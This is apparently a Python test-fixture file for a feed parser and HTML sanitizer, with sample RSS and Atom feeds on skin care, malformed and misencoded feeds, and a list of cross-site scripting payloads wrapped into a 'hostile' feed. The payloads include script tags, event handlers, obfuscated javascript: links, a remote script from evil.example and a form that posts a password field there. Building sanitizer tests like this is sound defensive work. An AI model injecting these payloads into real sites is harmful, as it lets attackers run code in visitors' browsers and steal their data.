# ruff: noqa: E501
"""Feed documents for the tests: one of each format, plus hostile and broken ones."""

from __future__ import annotations

RSS_091 = """<?xml version="1.0" encoding="utf-8"?>
<rss version="0.91">
<channel>
  <title>Old School Beauty</title>
  <link>https://old.example.com/</link>
  <description>RSS 0.91</description>
  <language>en</language>
  <item>
    <title>Cold cream, the classic</title>
    <link>https://old.example.com/cold-cream</link>
    <description>A jar that &lt;b&gt;lasted&lt;/b&gt; a century.</description>
  </item>
</channel>
</rss>
"""

RSS_20 = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"
     xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel>
  <title>Skin Daily</title>
  <link>https://skin.example.com/</link>
  <description>News about skin</description>
  <item>
    <title>Retinol: what the studies say</title>
    <link>https://Skin.Example.com/retinol?utm_source=rss&amp;utm_medium=feed&amp;id=7#top</link>
    <guid isPermaLink="false">skin-daily-retinol</guid>
    <dc:creator>Ana Ruiz</dc:creator>
    <pubDate>Mon, 30 Nov 2026 10:00:00 +0100</pubDate>
    <category>Skin care</category>
    <category>science</category>
    <media:content url="https://cdn.example.com/retinol.jpg" medium="image" />
    <description>Short: retinol works, slowly.</description>
    <content:encoded><![CDATA[<p>Retinol <em>works</em>, slowly. <a href="/studies">Read the studies</a>.</p>
<img src="/img/chart.png" alt="A chart">]]></content:encoded>
  </item>
  <item>
    <title>Sunscreen every day</title>
    <link>https://skin.example.com/sunscreen</link>
    <guid>https://skin.example.com/sunscreen</guid>
    <pubDate>Sun, 29 Nov 2026 08:00:00 GMT</pubDate>
    <media:thumbnail url="https://cdn.example.com/sun-thumb.jpg" />
    <description>SPF 30 is the minimum, dermatologists say.</description>
  </item>
  <item>
    <title>Masks for winter</title>
    <link>https://skin.example.com/masks</link>
    <enclosure url="https://cdn.example.com/mask.png" length="1000" type="image/png" />
    <description>&lt;p&gt;Hydrating masks &lt;img src="https://cdn.example.com/inline.jpg" alt="inline"&gt;&lt;/p&gt;</description>
  </item>
</channel>
</rss>
"""

RSS_10 = """<?xml version="1.0" encoding="utf-8"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
         xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://rdf.example.com/">
    <title>RDF Beauty</title>
    <link>https://rdf.example.com/</link>
    <description>RSS 1.0</description>
    <items><rdf:Seq><rdf:li rdf:resource="https://rdf.example.com/serums"/></rdf:Seq></items>
  </channel>
  <item rdf:about="https://rdf.example.com/serums">
    <title>Serums explained</title>
    <link>https://rdf.example.com/serums</link>
    <description>Vitamin C serums, in plain words.</description>
    <dc:date>2026-11-28T12:00:00Z</dc:date>
    <dc:subject>serums</dc:subject>
  </item>
</rdf:RDF>
"""

ATOM_10 = """<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Atom Glow</title>
  <link href="https://atom.example.com/"/>
  <id>urn:uuid:atom-glow</id>
  <updated>2026-11-27T09:00:00Z</updated>
  <entry>
    <title type="html">Night &lt;em&gt;routines&lt;/em&gt;</title>
    <link rel="alternate" href="https://atom.example.com/posts/night"/>
    <id>tag:atom.example.com,2026:night</id>
    <updated>2026-11-27T09:00:00+09:00</updated>
    <author><name>Mei Tanaka</name></author>
    <category term="routines"/>
    <summary>Three steps before bed.</summary>
    <content type="html">&lt;p&gt;Cleanse, treat, &lt;a href="moisturise"&gt;moisturise&lt;/a&gt;.&lt;/p&gt;</content>
  </entry>
</feed>
"""

# Not well-formed (a bare ampersand, an unclosed tag), but feedparser still finds the entry.
MALFORMED = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0">
<channel>
  <title>Broken & Beautiful</title>
  <link>https://broken.example.com/</link>
  <item>
    <title>Still readable</title>
    <link>https://broken.example.com/still</link>
    <description>Tags & ampersands <b>unclosed</description>
  </item>
</channel>
"""

NOT_A_FEED = "<html><body><p>This is a web page, not a feed.</p></body></html>"

# Declared ISO-8859-1, actually UTF-8.
WRONG_ENCODING = """<?xml version="1.0" encoding="iso-8859-1"?>
<rss version="2.0"><channel><title>Crème de la crème</title>
<link>https://enc.example.com/</link>
<item><title>Café – naïve “quotes”</title><link>https://enc.example.com/cafe</link>
<description>Crème brûlée for the skin? 日本の美容</description></item>
</channel></rss>
""".encode()

# Declared UTF-8, actually windows-1252.
WRONG_ENCODING_1252 = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Windows</title>
<link>https://enc2.example.com/</link>
<item><title>Don’t panic – it’s “fine”</title><link>https://enc2.example.com/panic</link>
<description>Naïve café</description></item>
</channel></rss>
""".encode("cp1252")

# Hostile HTML, each in its own item so every variant is checked.
HOSTILE_HTML = [
    "<script>alert(1)</script><p>after script</p>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<img src="https://ok.example/x.png" onerror="alert(1)" ONLOAD="x()">',
    '<p onclick="steal()" onMouseOver="steal()">click</p>',
    '<a href="javascript:alert(1)">js</a>',
    '<a href="JaVaScRiPt:alert(1)">case</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">dec</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">hex</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">pad</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href=" javascript:alert(1)">space</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">',
    '<p style="width: expression(alert(1))">css</p>',
    '<div style="background:url(javascript:alert(1))">bg</div>',
    "<style>body{background:url(javascript:alert(1))}</style><p>styled</p>",
    '<iframe src="https://evil.example/"></iframe><p>framed</p>',
    '<object data="x.swf"></object><embed src="x.swf"><p>plugins</p>',
    '<form action="https://evil.example/"><input name="pw"></form><p>form</p>',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="https://ok.example/" target="_blank">fine</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<img src="x" style="xss:expr/**/ession(alert(1))" alt="c">',
    '<a href="java\0script:alert(1)">nul</a>',
]


def rss(items: list[dict[str, str]], title: str = "Test feed") -> str:
    """An RSS 2.0 document; HTML in 'description' is escaped into the XML."""
    from xml.sax.saxutils import escape

    parts = [
        '<?xml version="1.0" encoding="utf-8"?>',
        '<rss version="2.0"><channel>',
        f"<title>{escape(title)}</title><link>https://feed.example.com/</link>",
    ]
    for item in items:
        parts.append("<item>")
        for key, value in item.items():
            parts.append(f"<{key}>{escape(value)}</{key}>")
        parts.append("</item>")
    parts.append("</channel></rss>")
    return "\n".join(parts)


def hostile_feed() -> str:
    return rss(
        [
            {
                "title": f"Hostile {i}",
                "link": f"https://hostile.example.com/{i}",
                "guid": f"hostile-{i}",
                "description": fragment,
            }
            for i, fragment in enumerate(HOSTILE_HTML)
        ],
        title="Hostile",
    )
